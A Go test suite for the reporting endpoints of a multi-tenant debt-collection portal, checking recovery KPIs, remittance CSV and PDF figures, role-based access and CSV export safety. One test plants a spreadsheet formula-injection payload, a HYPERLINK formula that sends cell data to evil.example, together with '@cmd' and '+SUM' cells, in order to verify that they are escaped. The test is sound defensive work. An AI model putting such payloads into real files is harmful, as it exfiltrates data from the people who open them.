package web_test

import (
	"context"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"sort"
	"strings"
	"testing"
	"time"

	"go.mongodb.org/mongo-driver/bson"

	"cartera/portal/apptest"
	"cartera/portal/strategy"
	"cartera/portal/testtool"
)

// reportEnv is a tenant whose month is built through the API, so the
// report's figures can be computed by hand:
//
//	A1 José  due today−45  1.000.000,00  online 300.000 (A1), refund 100.000, promise 100.000 kept by a manual 100.000
//	A2 José  due today+10    200.000,00  dispute accepted with a credit of 50.000
//	B1 María due today−100   500.000,00  client-reported 200.000,05; called without answer
//	C1 Pedro due today−400   300.000,00  recalled by the client
type reportEnv struct {
	debtorEnv
	collector, collectorID string
	from, to               string
	clock                  time.Time
}

func reportPortfolio(today time.Time) string {
	d := func(days int) string { return today.AddDate(0, 0, days).Format(time.DateOnly) }
	return "documento,nombre,factura,vencimiento,valor,correo,celular,segmento\n" +
		"80123456,José Núñez,A1," + d(-45) + ",1000000,jose@example.co,3001112233,Hogares\n" +
		"80123456,José Núñez,A2," + d(10) + ",200000,jose@example.co,3001112233,Hogares\n" +
		"900123456,María Gómez,B1," + d(-100) + ",500000,maria@example.co,3004445566,Empresas\n" +
		"700123,Pedro Ruiz,C1," + d(-400) + ",300000,,3007778899,Hogares\n"
}

func newReportEnv(t *testing.T) *reportEnv {
	t.Helper()
	e := apptest.New(t, apptest.Sandbox)
	e.Tenant("acme")
	_, client := e.User("acme", "client")
	_, manager := e.User("acme", "manager")
	r := &reportEnv{debtorEnv: debtorEnv{Env: e, client: client, manager: manager}}
	r.collectorID, r.collector = e.User("acme", "collector")
	// No late interest and no discounts: these tests check how reports add
	// up money movements (interest-first imputation is proven in
	// money_test.go and payments); with interest, part of each payment
	// would go to interest and the recovered (principal) figures below
	// would depend on the day the test runs.
	pol := strategy.Default()
	pol.LateInterestBP, pol.Settlement, pol.EarlyPayment = 0, nil, strategy.EarlyPayment{}
	if _, err := e.App.Web.Policy.Put(e.Ctx(), "acme", pol); err != nil {
		t.Fatal(err)
	}
	today := time.Now().In(bogota)
	today = time.Date(today.Year(), today.Month(), today.Day(), 0, 0, 0, 0, bogota)
	r.from, r.to = today.AddDate(0, 0, -40).Format(time.DateOnly), today.Format(time.DateOnly)
	if m := e.Import("acme", client, "cartera.csv", []byte(reportPortfolio(today))); num(m, "inserted") != 4 {
		t.Fatalf("import: %v", m)
	}
	if res := e.Do("POST", "/api/tenants/acme/assignments", manager, map[string]any{"accountIds": []string{"A1", "A2", "B1", "C1"}, "collectorId": r.collectorID}); res.Status != 200 {
		t.Fatalf("assign: %d %s", res.Status, res.Body)
	}
	return r
}

func (r *reportEnv) must(what string, res apptest.Resp, status int) map[string]any {
	r.T.Helper()
	if res.Status != status {
		r.T.Fatalf("%s: %d %s", what, res.Status, res.Body)
	}
	return res.JSON()
}

// build runs the month described on reportEnv through the API.
func (r *reportEnv) build() {
	t := r.T
	// Online: José pays 300.000 in the sandbox (oldest first: all to A1),
	// then 100.000 of it is refunded.
	jose := r.session("acme", "80123456")
	co := r.must("checkout", r.Do("POST", "/api/debtor/checkout", jose, map[string]any{"amount": 30000000}), 200)
	pid := co["paymentId"].(string)
	r.must("complete", r.Do("POST", "/api/payments/sandbox/"+pid+"/complete", jose, nil), 200)
	if !strings.HasPrefix(pid, "acme:") {
		pid = "acme:" + pid
	}
	if _, err := r.App.Payments.Reverse(r.Ctx(), "acme", pid, "refund:re_1", 10000000, "reembolso"); err != nil {
		t.Fatalf("refund: %v", err)
	}

	// The collector calls on a weekday morning (compliance): the last one
	// that is allowed, at most ten days back.
	today := time.Now().In(bogota)
	for back := 0; ; back++ {
		if back > 10 {
			t.Fatal("no allowed contact moment in ten days")
		}
		d := today.AddDate(0, 0, -back)
		r.clock = time.Date(d.Year(), d.Month(), d.Day(), 10, 0, 0, 0, bogota)
		r.App.Web.Work.Now = func() time.Time { return r.clock }
		res := r.Do("POST", "/api/tenants/acme/accounts/A1/activities", r.collector, map[string]any{"channel": "call", "outcome": "promise",
			"promise": map[string]any{"amount": 10000000, "date": r.clock.AddDate(0, 0, 5).Format(time.DateOnly)}})
		if res.Status == 201 {
			break
		}
		if res.Status != 422 {
			t.Fatalf("promise call: %d %s", res.Status, res.Body)
		}
	}
	r.must("call María", r.Do("POST", "/api/tenants/acme/accounts/B1/activities", r.collector, map[string]any{"channel": "call", "outcome": "no_answer"}), 201)
	r.clock = r.clock.Add(time.Minute)
	r.must("manual payment", r.Do("POST", "/api/tenants/acme/accounts/A1/payments", r.collector, map[string]any{"amount": 10000000, "method": "transfer", "reference": "TR-1"}), 201)
	r.must("client-reported payment", r.Do("POST", "/api/tenants/acme/accounts/B1/payments", r.client, map[string]any{"amount": 20000005, "method": "client_reported", "reference": "CLI-1"}), 201)

	// José disputes A2; the client accepts 50.000 of it.
	d := r.must("dispute", r.Do("POST", "/api/debtor/disputes", jose, map[string]any{"accountIds": []string{"A2"}, "reason": "wrong_amount", "description": "Cobran de más"}), 201)
	r.must("resolve", r.Do("POST", "/api/tenants/acme/disputes/"+d["id"].(string)+"/resolve", r.client, map[string]any{"decision": "accept", "creditAmount": 5000000, "note": "Se abona la diferencia"}), 200)

	// The client takes C1 back.
	r.must("recall", r.Do("POST", "/api/tenants/acme/accounts/C1/recall", r.client, map[string]any{"reason": "acuerdo directo"}), 200)
}

type summaryJSON struct {
	Currency  string `json:"currency"`
	Placed    struct{ Count, Amount int64 }
	Recovered struct {
		Amount    int64            `json:"amount"`
		ByChannel map[string]int64 `json:"byChannel"`
		Payments  int64            `json:"payments"`
		Reversals int64            `json:"reversals"`
	} `json:"recovered"`
	RecoveryRate struct{ Num, Den, BP int64 } `json:"recoveryRate"`
	Outstanding  struct{ Count, Amount int64 }
	Aging        []struct {
		Bucket        string
		Count, Amount int64
	}
	Promises struct {
		Made, MadeAmount, Kept, Broken int64
		KeptRate                       struct{ BP int64 }
	}
	Disputes struct {
		Opened, Accepted, Rejected, Credited int64
		MedianDaysToResolve                  *float64
	}
	Plans struct {
		Available                             bool
		Created, Active, Completed, Defaulted int64
	}
	ContactRate struct {
		Open, Contacted, RightParty, BP int64
		RightBP                         int64 `json:"rightPartyBp"`
	} `json:"contactRate"`
	Collectors []struct {
		ID                                              string
		Accounts, Worked, Contacts, Promises, Recovered int64
	}
	Monthly []struct {
		Month             string
		Placed, Recovered int64
		RateBP            int64 `json:"rateBp"`
	}
	DSO struct{ Days *float64 } `json:"dso"`
}

func TestReportSummaryKPIs(t *testing.T) {
	r := newReportEnv(t)
	r.build()
	res := r.must("summary", r.Do("GET", "/api/tenants/acme/reports/summary?from="+r.from+"&to="+r.to, r.client, nil), 200)
	for _, k := range []string{"placed", "recovered", "recoveryRate", "outstanding", "aging", "promises", "disputes", "plans", "contactRate", "collectors", "monthly", "dso"} {
		if _, ok := res[k]; !ok {
			t.Errorf("summary lacks %q", k)
		}
	}
	var s summaryJSON
	r.Do("GET", "/api/tenants/acme/reports/summary?from="+r.from+"&to="+r.to, r.manager, nil).Decode(t, &s)

	// Placed: four invoices, 2.000.000,00.
	if s.Placed.Count != 4 || s.Placed.Amount != 200000000 {
		t.Errorf("placed %+v", s.Placed)
	}
	// Recovered: 300.000 online − 100.000 refunded + 100.000 manual + 200.000,05 by the client.
	if s.Recovered.Amount != 50000005 || s.Recovered.ByChannel["online"] != 20000000 || s.Recovered.ByChannel["manual"] != 10000000 ||
		s.Recovered.ByChannel["client_reported"] != 20000005 || s.Recovered.Payments != 3 || s.Recovered.Reversals != 10000000 {
		t.Errorf("recovered %+v", s.Recovered)
	}
	// Rate: recalled C1 out; net placed 1.700.000 − 50.000 credit = 1.650.000;
	// 500.000,05 / 1.650.000 = 30,3030 % → 3030 bp.
	if s.RecoveryRate.Num != 50000005 || s.RecoveryRate.Den != 165000000 || s.RecoveryRate.BP != 3030 {
		t.Errorf("recovery rate %+v", s.RecoveryRate)
	}
	// Outstanding: A1 700.000, A2 150.000, B1 299.999,95 (C1 recalled).
	if s.Outstanding.Count != 3 || s.Outstanding.Amount != 114999995 {
		t.Errorf("outstanding %+v", s.Outstanding)
	}
	want := map[string][2]int64{"current": {1, 15000000}, "31-60": {1, 70000000}, "91-180": {1, 29999995}}
	if len(s.Aging) != 7 {
		t.Fatalf("aging %+v", s.Aging)
	}
	for _, b := range s.Aging {
		if w := want[b.Bucket]; b.Count != w[0] || b.Amount != w[1] {
			t.Errorf("aging %s: %d %d, want %v", b.Bucket, b.Count, b.Amount, w)
		}
	}
	if p := s.Promises; p.Made != 1 || p.MadeAmount != 10000000 || p.Kept != 1 || p.Broken != 0 || p.KeptRate.BP != 10000 {
		t.Errorf("promises %+v", p)
	}
	if d := s.Disputes; d.Opened != 1 || d.Accepted != 1 || d.Rejected != 0 || d.Credited != 5000000 || d.MedianDaysToResolve == nil || *d.MedianDaysToResolve != 0 {
		t.Errorf("disputes %+v", d)
	}
	// Contact: A1 (promise) and B1 (no answer) of the 4 accounts open during
	// the period (none before it, four placed in it).
	if c := s.ContactRate; c.Open != 4 || c.Contacted != 2 || c.RightParty != 1 || c.BP != 5000 || c.RightBP != 2500 {
		t.Errorf("contact rate %+v", c)
	}
	if !s.Plans.Available || s.Plans.Created != 0 || s.Plans.Active != 0 {
		t.Errorf("plans %+v", s.Plans)
	}
	if len(s.Collectors) != 1 {
		t.Fatalf("collectors %+v", s.Collectors)
	}
	if c := s.Collectors[0]; c.ID != r.collectorID || c.Accounts != 3 || c.Worked != 2 || c.Contacts != 2 || c.Promises != 1 || c.Recovered != 50000005 {
		t.Errorf("collector %+v", c)
	}
	// Monthly: 12 months; together they hold the period's money.
	if len(s.Monthly) != 12 || s.Monthly[11].Month != r.to[:7] || s.Monthly[11].RateBP != 3030 {
		t.Errorf("monthly %+v", s.Monthly)
	}
	var mp, mr int64
	for _, m := range s.Monthly {
		mp += m.Placed
		mr += m.Recovered
	}
	if mp != 200000000 || mr != 50000005 {
		t.Errorf("monthly sums placed %d recovered %d", mp, mr)
	}
	// DSO: 1.149.999,95 × 41 days / 2.000.000 = 23,57 → 23,6.
	if s.DSO.Days == nil || *s.DSO.Days != 23.6 {
		t.Errorf("dso %v", s.DSO.Days)
	}

	// The counters kept as the month happened (sandbox payment, refund,
	// manual and client-reported payments, promise kept, dispute credit,
	// recall) equal a rebuild from scratch, figure by figure.
	if drifts, err := r.App.Tally.Compare(r.Ctx(), "acme"); err != nil || len(drifts) != 0 {
		t.Errorf("live counters differ from a rebuild: %v %+v", err, drifts)
	}

	// Bad periods are 400 with the field.
	for _, q := range []string{"from=2026-13-01", "from=" + r.to + "&to=" + r.from, "to=ayer", "segment=nadie"} {
		if res := r.Do("GET", "/api/tenants/acme/reports/summary?"+q, r.client, nil); res.Status != 400 {
			t.Errorf("%s: %d %s", q, res.Status, res.Body)
		}
	}
}

// ledgerCollected is −Σ of the payment and reversal entries of the period,
// read straight from the ledger.
func ledgerCollected(t *testing.T, e *apptest.Env, from, to string) int64 {
	t.Helper()
	f, _ := time.ParseInLocation(time.DateOnly, from, bogota)
	l, _ := time.ParseInLocation(time.DateOnly, to, bogota)
	var entries []struct {
		Kind   string    `bson:"kind"`
		Amount int64     `bson:"amount"`
		At     time.Time `bson:"at"`
	}
	if err := e.App.DB.Tenant("acme").C("ledger").Find(context.Background(), bson.D{}, &entries); err != nil {
		t.Fatal(err)
	}
	var sum int64
	for _, x := range entries {
		if (x.Kind == "payment" || x.Kind == "reversal") && !x.At.Before(f) && x.At.Before(l.AddDate(0, 0, 1)) {
			sum -= x.Amount
		}
	}
	return sum
}

func TestRemittanceReconcilesWithLedger(t *testing.T) {
	r := newReportEnv(t)
	r.build()
	q := "?from=" + r.from + "&to=" + r.to
	res := r.Do("GET", "/api/tenants/acme/reports/remittance.csv"+q, r.client, nil)
	if res.Status != 200 || !strings.HasPrefix(string(res.Body), "\ufeff") {
		t.Fatalf("remittance.csv: %d %s", res.Status, res.Body)
	}
	lines := strings.Split(strings.TrimSpace(strings.TrimPrefix(string(res.Body), "\ufeff")), "\n")
	if len(lines) != 6 { // header, 4 movements, total
		t.Fatalf("remittance rows:\n%s", res.Body)
	}
	// Commission 15 % per line, halves away from zero:
	// 300.000 → 45.000; −100.000 → −15.000; 100.000 → 15.000; 200.000,05 → 30.000,0075 → 30.000,01.
	// Net = 500.000,05 − 200.000,05 (already the client's) − 75.000,01 = 224.999,99.
	total := lines[5]
	if total != "total;;;;;;500000,05;75000,01;224999,99" {
		t.Errorf("totals row %q", total)
	}
	// Amounts are numbers, negatives too (not text behind a quote).
	if body := string(res.Body); !strings.Contains(body, ";-100000,00;-15000,00;-85000,00") || strings.Contains(body, ";'-") {
		t.Errorf("negative amounts as text:\n%s", body)
	}
	if got := ledgerCollected(t, r.Env, r.from, r.to); got != 50000005 {
		t.Errorf("ledger says %d collected", got)
	}
	rem, err := r.App.Web.Reports.Remittance(r.Ctx(), "acme", r.from, r.to)
	if err != nil {
		t.Fatal(err)
	}
	var sumLines, sumComm, sumNet int64
	for _, l := range rem.Lines {
		sumLines += l.Amount
		sumComm += l.Commission
		sumNet += l.ToRemit
	}
	if rem.Collected != ledgerCollected(t, r.Env, r.from, r.to) || sumLines != rem.Collected || sumComm != rem.Commission || sumNet != rem.Net ||
		rem.Commission != 7500001 || rem.Net != 22499999 || rem.Collected-rem.ClientReported-rem.Commission != rem.Net {
		t.Errorf("remittance %+v", rem)
	}
	for _, l := range rem.Lines {
		if l.Channel == "client_reported" && l.Commission != 3000001 {
			t.Errorf("client-reported commission %d, want 3000001 (half rounded away from zero)", l.Commission)
		}
	}

	pdf := r.Do("GET", "/api/tenants/acme/reports/remittance.pdf"+q, r.client, nil)
	if pdf.Status != 200 || !strings.HasPrefix(string(pdf.Body), "%PDF") {
		t.Fatalf("remittance.pdf: %d", pdf.Status)
	}
	text := pdfText(t, pdf.Body, "remittance")
	for _, want := range []string{"Liquidación de recaudo", "Empresa acme", "$ 500.000,05", "$ 75.000,01", "$ 224.999,99", "Comisión (15,00 %)",
		"José Núñez", "Reversión", "Reportado por el cliente", "Página 1 de"} {
		if !strings.Contains(text, want) {
			t.Errorf("remittance PDF lacks %q:\n%s", want, text)
		}
	}
}

// pdfText extracts a PDF's text with poppler and renders its pages as PNG
// (kept in SCREENSHOT_DIR when set, to look at).
func pdfText(t *testing.T, b []byte, name string) string {
	t.Helper()
	testtool.Bin(t, "pdftotext", "poppler-utils", "")
	dir := t.TempDir()
	if d := os.Getenv("SCREENSHOT_DIR"); d != "" {
		dir = d
		_ = os.MkdirAll(dir, 0o755)
	}
	p := filepath.Join(dir, name+".pdf")
	if err := os.WriteFile(p, b, 0o644); err != nil {
		t.Fatal(err)
	}
	if out, err := exec.Command("pdftoppm", "-png", "-r", "60", p, filepath.Join(dir, name)).CombinedOutput(); err != nil {
		t.Fatalf("pdftoppm: %v %s", err, out)
	}
	out, err := exec.Command("pdftotext", "-layout", p, "-").Output()
	if err != nil {
		t.Fatalf("pdftotext: %v", err)
	}
	return string(out)
}

func TestRecoveryPDF(t *testing.T) {
	r := newReportEnv(t)
	r.build()
	res := r.Do("GET", "/api/tenants/acme/reports/recovery.pdf?from="+r.from+"&to="+r.to, r.client, nil)
	if res.Status != 200 || res.Header.Get("Content-Type") != "application/pdf" || !strings.HasPrefix(string(res.Body), "%PDF") {
		t.Fatalf("recovery.pdf: %d %v", res.Status, res.Header)
	}
	text := pdfText(t, res.Body, "recovery")
	from, _ := time.Parse(time.DateOnly, r.from)
	months := []string{"enero", "febrero", "marzo", "abril", "mayo", "junio", "julio", "agosto", "septiembre", "octubre", "noviembre", "diciembre"}
	period := fmt.Sprintf("del %d de %s de %d", from.Day(), months[from.Month()-1], from.Year())
	for _, want := range []string{"Informe de recuperación", "Empresa acme", period, "$ 2.000.000,00", "$ 500.000,05", "$ 1.149.999,95",
		"30,30 %", "50,00 %", "25,00 %", "0 activos · 0 nuevos", "Saldo por antigüedad", "Recuperado por mes", "Tasa de recuperación acumulada",
		"Productividad por gestor", "Más de 360", "Página 1 de 3", "Página 3 de 3", "días", "Reportado por el cliente"} {
		if !strings.Contains(text, want) {
			t.Errorf("recovery PDF lacks %q:\n%s", want, text)
		}
	}
}

func TestReportAccess(t *testing.T) {
	e := apptest.New(t)
	e.Tenant("acme")
	e.Tenant("beta")
	_, client := e.User("acme", "client")
	_, betaClient := e.User("beta", "client")
	_, collector := e.User("acme", "collector")
	_, manager := e.User("acme", "manager")
	e.Import("acme", client, "c.csv", []byte("documento,nombre,factura,vencimiento,valor\n1,Ana,X1,2025-01-01,1000\n"))
	paths := []string{"summary", "recovery.pdf", "remittance.pdf", "remittance.csv", "accounts.csv", "activities.csv"}
	for _, p := range paths {
		url := "/api/tenants/acme/reports/" + p
		for _, c := range []struct {
			who, token string
			status     int
		}{{"client", client, 200}, {"manager", manager, 200}, {"admin", e.Admin, 200}, {"other tenant's client", betaClient, 404}, {"collector", collector, 403}, {"anonymous", "", 401}} {
			res := e.Do("GET", url, c.token, nil)
			if res.Status != c.status {
				t.Errorf("%s %s: %d, want %d", c.who, p, res.Status, c.status)
			}
			if c.status != 200 && strings.Contains(string(res.Body), "Ana") {
				t.Errorf("%s %s leaks data: %s", c.who, p, res.Body)
			}
		}
	}
	// A tenant whose accounts hold two currencies (the import refuses them,
	// old data may not) is refused, not summed.
	usd := bson.D{{Key: "_id", Value: "acme:X2"}, {Key: "tenantId", Value: "acme"}, {Key: "invoice", Value: "X2"}, {Key: "currency", Value: "USD"},
		{Key: "balance", Value: int64(5000)}, {Key: "status", Value: "open"}, {Key: "dueDate", Value: time.Now()}}
	if err := e.App.DB.Tenant("acme").C("accounts").Insert(context.Background(), usd); err != nil {
		t.Fatal(err)
	}
	if res := e.Do("GET", "/api/tenants/acme/reports/summary", client, nil); res.Status != 422 || res.JSON()["code"] != "multi_currency" {
		t.Errorf("two currencies: %d %s", res.Status, res.Body)
	}
}

func TestAccountsCSVIsSafeAndAudited(t *testing.T) {
	e := apptest.New(t)
	e.Tenant("acme")
	_, client := e.User("acme", "client")
	evil := `=HYPERLINK("http://evil.example/?x="&A1;"pulse aquí")`
	csv := "documento;nombre;factura;vencimiento;valor;segmento\n" +
		`1;"` + strings.ReplaceAll(evil, `"`, `""`) + `";F-1;2025-01-01;1000;+SUM(1)` + "\n" +
		"2;@cmd;-F2;2025-01-01;2000;normal\n" +
		"3;José Núñez;F-3;2025-01-01;3000;normal\n"
	if m := e.Import("acme", client, "c.csv", []byte(csv)); num(m, "inserted") != 3 {
		t.Fatalf("import: %v", m)
	}
	res := e.Do("GET", "/api/tenants/acme/reports/accounts.csv", client, nil)
	body := string(res.Body)
	if res.Status != 200 || !strings.HasPrefix(body, "\ufeff") || !strings.Contains(res.Header.Get("Content-Type"), "text/csv") {
		t.Fatalf("accounts.csv: %d %v", res.Status, res.Header)
	}
	for _, line := range strings.Split(strings.TrimPrefix(body, "\ufeff"), "\n") {
		for _, cell := range strings.Split(line, ";") {
			cell = strings.TrimPrefix(cell, `"`)
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("cell %q would run as a formula", cell)
			}
		}
	}
	for _, want := range []string{`'=HYPERLINK(`, "'+SUM(1)", "'@cmd", "'-F2", "José Núñez", "1000,00"} {
		if !strings.Contains(body, want) {
			t.Errorf("accounts.csv lacks %q:\n%s", want, body)
		}
	}
	entries, err := e.App.Audit.List(context.Background(), "acme", "export.accounts", 10)
	if err != nil || len(entries) != 1 || entries[0].Details["rows"] != int32(3) && entries[0].Details["rows"] != int64(3) && entries[0].Details["rows"] != 3 {
		t.Errorf("audit: %v %+v", err, entries)
	}
	if r := e.Do("GET", "/api/tenants/acme/reports/activities.csv", client, nil); r.Status != 200 || !strings.HasPrefix(string(r.Body), "\ufefffecha;factura") {
		t.Errorf("activities.csv: %d %s", r.Status, r.Body)
	}
}

// The dashboard names the tenant's collectors as they are now: one created,
// renamed or made a manager shows at once (on the embedded server the list
// is kept in memory between changes).
func TestReportCollectorsFollowUserChanges(t *testing.T) {
	e := apptest.New(t)
	e.Tenant("acme")
	_, mgr := e.User("acme", "manager")
	names := func() []string {
		t.Helper()
		var s struct{ Collectors []struct{ ID, Name string } }
		r := e.Do("GET", "/api/tenants/acme/reports/summary", mgr, nil)
		if r.Status != 200 {
			t.Fatalf("summary: %d %s", r.Status, r.Body)
		}
		r.Decode(t, &s)
		var out []string
		for _, c := range s.Collectors {
			out = append(out, c.Name)
		}
		sort.Strings(out)
		return out
	}
	create := func(email, name string) string {
		t.Helper()
		r := e.Do("POST", "/api/tenants/acme/users", mgr, map[string]any{"email": email, "name": name, "role": "collector", "password": apptest.Password})
		if r.Status != 201 {
			t.Fatalf("create %s: %d %s", email, r.Status, r.Body)
		}
		return r.JSON()["id"].(string)
	}
	if got := names(); len(got) != 0 {
		t.Fatalf("before any collector: %v", got)
	}
	ana := create("ana@acme.co", "Ana Ruiz")
	if got := names(); !slices.Equal(got, []string{"Ana Ruiz"}) {
		t.Fatalf("after creating Ana: %v", got)
	}
	create("beto@acme.co", "Beto Gil")
	if got := names(); !slices.Equal(got, []string{"Ana Ruiz", "Beto Gil"}) {
		t.Fatalf("after creating Beto: %v", got)
	}
	if r := e.Do("PATCH", "/api/tenants/acme/users/"+ana, mgr, map[string]any{"name": "Ana Ruiz de Pérez"}); r.Status != 200 {
		t.Fatalf("rename: %d %s", r.Status, r.Body)
	}
	if got := names(); !slices.Equal(got, []string{"Ana Ruiz de Pérez", "Beto Gil"}) {
		t.Fatalf("after renaming Ana: %v", got)
	}
	if r := e.Do("PATCH", "/api/tenants/acme/users/"+ana, mgr, map[string]any{"role": "manager"}); r.Status != 200 {
		t.Fatalf("role: %d %s", r.Status, r.Body)
	}
	if got := names(); !slices.Equal(got, []string{"Beto Gil"}) {
		t.Fatalf("after Ana became a manager: %v", got)
	}
}
